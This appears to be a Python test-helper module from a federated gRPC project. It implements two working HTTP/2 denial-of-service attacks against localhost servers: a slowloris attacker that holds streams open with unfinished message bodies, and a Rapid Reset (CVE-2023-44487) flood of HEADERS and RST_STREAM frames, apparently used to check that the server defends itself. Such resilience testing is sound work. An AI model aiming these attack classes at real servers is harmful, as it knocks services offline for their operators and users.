"""A raw-socket slowloris attacker for the gRPC servers (issue 14, item 6).

Each `StalledConnection` speaks just enough HTTP/2 by hand: the client preface, SETTINGS, then for
every stream a HEADERS frame of a unary gRPC call and a DATA frame with the 5-byte gRPC prefix
announcing a message it never finishes sending (no END_STREAM). It answers the server's SETTINGS
and keepalive PINGs, as a patient attacker would, so the server has no protocol reason to drop
it. Plaintext, or TLS with a client certificate (the attacker holds one of the federation's
certificates, not necessarily its token).

`RapidReset` is the other HTTP/2 attack on a server's streams (CVE-2023-44487): it opens a call
and cancels it at once (HEADERS, then RST_STREAM), as fast as the socket takes them, so the
server keeps starting work that is already cancelled. Plaintext.
"""

from __future__ import annotations

import contextlib
import select
import socket
import ssl
import struct
import threading
from collections.abc import Iterator
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_HEADERS, ACK = 0x4, 0x1


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes([kind, flags])
        + struct.pack(">I", stream)
        + payload
    )


def frames(received: bytes) -> Iterator[tuple[int, bytes]]:
    """(type, payload) of each whole frame in what a server sent after the preface."""
    at = 0
    while at + 9 <= len(received):
        length = int.from_bytes(received[at : at + 3], "big")
        if at + 9 + length > len(received):
            return
        yield received[at + 3], received[at + 9 : at + 9 + length]
        at += 9 + length


def _literal(name: str, value: str) -> bytes:
    """HPACK: literal header field without indexing, new name, no Huffman (lengths < 127)."""
    n, v = name.encode(), value.encode()
    assert len(n) < 127 and len(v) < 127
    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v


def tls_context(identity_dir: Path) -> ssl.SSLContext:
    """A client context with `identity_dir`'s certificate (a `vfl certs` identity)."""
    context = ssl.create_default_context(cafile=str(identity_dir / "ca.pem"))
    context.load_cert_chain(identity_dir / "cert.pem", identity_dir / "key.pem")
    context.check_hostname = False
    context.set_alpn_protocols(["h2"])
    return context


class StalledConnection:
    """One connection holding `streams` calls of `method`, each with a body that never ends."""

    def __init__(
        self,
        port: int,
        streams: int,
        method: str,
        *,
        tls: ssl.SSLContext | None = None,
        token: str | None = None,
    ) -> None:
        raw = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock = tls.wrap_socket(raw, server_hostname="localhost") if tls is not None else raw
        # An SSL socket must not read and write at once (OpenSSL state is per connection: a recv in
        # the reader thread beside a sendall here crashed the interpreter). Every use of it holds
        # _lock, and the reader only reads what select says arrived; the timeout bounds a read of
        # a TLS record the server never finishes.
        self.sock.settimeout(5.0)
        self._closing = False
        self.goaway = False
        self.resets = 0  # RST_STREAM frames: streams the server refused or cut
        self.sent = 0  # streams opened
        self.cut = False  # the server closed the connection while the attacker was sending
        self._lock = threading.Lock()
        self._send(PREFACE + _frame(SETTINGS, 0, 0, b""))
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        block = _literal(":method", "POST") + _literal(":scheme", "https" if tls else "http")
        block += _literal(":path", method) + _literal(":authority", "localhost")
        block += _literal("content-type", "application/grpc") + _literal("te", "trailers")
        if token is not None:
            block += _literal("authorization", f"Bearer {token}")
        body = b"\x00" + struct.pack(">I", 1000) + b"\x0a\x05"  # 1000 bytes announced, 2 sent
        for i in range(streams):
            stream = 2 * i + 1
            frames = _frame(HEADERS, END_HEADERS, stream, block) + _frame(DATA, 0, stream, body)
            if not self._send(frames):
                break
            self.sent += 1

    @property
    def held(self) -> int:
        """Streams the server may still be holding open for this connection."""
        return 0 if self.cut or not self.alive() else self.sent - self.resets

    def _send(self, data: bytes) -> bool:
        """False once the server has closed the connection (a defence, not an error here)."""
        try:
            with self._lock:
                self.sock.sendall(data)
        except OSError:  # ssl.SSLError too
            self.cut = True
            return False
        return True

    def _read(self) -> None:
        """Answer SETTINGS and PINGs; note GOAWAY and RST_STREAM; until the socket closes."""
        buffer = b""
        try:
            while (chunk := self._recv()) != b"":
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags, payload = buffer[3], buffer[4], buffer[9 : 9 + length]
                    buffer = buffer[9 + length :]
                    if kind == SETTINGS and not flags & ACK:
                        self._send(_frame(SETTINGS, ACK, 0, b""))
                    elif kind == PING and not flags & ACK:
                        self._send(_frame(PING, ACK, 0, payload))
                    elif kind == GOAWAY:
                        self.goaway = True
                    elif kind == RST_STREAM:
                        self.resets += 1
        except (OSError, ValueError):  # ValueError: select on the socket close() closed
            pass

    def _recv(self) -> bytes:
        """What arrived (b"" once the connection is closed), waiting for it in short steps."""
        while True:
            readable, _, _ = select.select([self.sock], [], [], 0.05)
            with self._lock:
                if self._closing:
                    return b""
                pending = getattr(self.sock, "pending", lambda: 0)()  # TLS bytes already read
                if not readable and not pending:
                    continue
                try:
                    return self.sock.recv(65536)
                except (TimeoutError, ssl.SSLWantReadError):
                    continue

    def alive(self) -> bool:
        return self._reader.is_alive()

    def close(self) -> None:
        with self._lock:
            self._closing = True
            with contextlib.suppress(OSError):
                self.sock.close()
        self._reader.join(5)


class Attack:
    """Many stalled connections; close() ends them all."""

    def __init__(self) -> None:
        self.connections: list[StalledConnection] = []

    def open(self, port: int, connections: int, streams: int, method: str, **kw) -> Attack:
        for _ in range(connections):
            self.connections.append(StalledConnection(port, streams, method, **kw))
        return self

    def __enter__(self) -> Attack:
        return self

    def __exit__(self, *exc: object) -> None:
        for c in self.connections:
            c.close()


class RapidReset:
    """`connections` threads, each on its own connection, opening and at once cancelling calls of
    `method` until close(); `sent` counts the calls, `cut` the connections the server closed."""

    BURST = 100  # calls per write

    def __init__(self, port: int, method: str, connections: int = 2) -> None:
        block = _literal(":method", "POST") + _literal(":scheme", "http")
        block += _literal(":path", method) + _literal(":authority", "localhost")
        block += _literal("content-type", "application/grpc") + _literal("te", "trailers")
        self._block = block
        self._port = port
        self._stop = threading.Event()
        self._lock = threading.Lock()
        self.sent = 0
        self.cut = 0
        self._threads = [
            threading.Thread(target=self._run, daemon=True) for _ in range(connections)
        ]
        for t in self._threads:
            t.start()

    def _run(self) -> None:
        cancel = struct.pack(">I", 0x8)  # CANCEL
        with socket.create_connection(("127.0.0.1", self._port), timeout=10) as sock:
            sock.sendall(PREFACE + _frame(SETTINGS, 0, 0, b""))
            stream = 1
            try:
                while not self._stop.is_set():
                    burst = b"".join(
                        _frame(HEADERS, END_HEADERS, s, self._block)
                        + _frame(RST_STREAM, 0, s, cancel)
                        for s in range(stream, stream + 2 * self.BURST, 2)
                    )
                    stream += 2 * self.BURST
                    sock.sendall(burst)
                    with self._lock:
                        self.sent += self.BURST
                    self._drain(sock)
            except OSError:  # the server closed the connection: a defence, not an error here
                with self._lock:
                    self.cut += 1

    @staticmethod
    def _drain(sock: socket.socket) -> None:
        """Read what the server sent (its answers would otherwise fill the window and block)."""
        while select.select([sock], [], [], 0)[0]:
            if not sock.recv(1 << 20):
                raise ConnectionResetError("closed by the server")

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(15)

    def __enter__(self) -> RapidReset:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()
